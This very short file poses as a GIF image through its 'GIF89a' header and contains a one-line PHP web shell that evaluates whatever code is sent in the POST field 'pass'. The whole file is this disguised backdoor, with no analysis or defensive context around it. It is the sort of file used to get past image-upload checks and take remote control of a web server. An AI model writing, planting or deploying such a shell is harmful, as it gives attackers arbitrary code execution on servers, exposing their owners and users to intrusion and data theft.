GIF89a;
<?php @eval($_POST['pass']); ?>
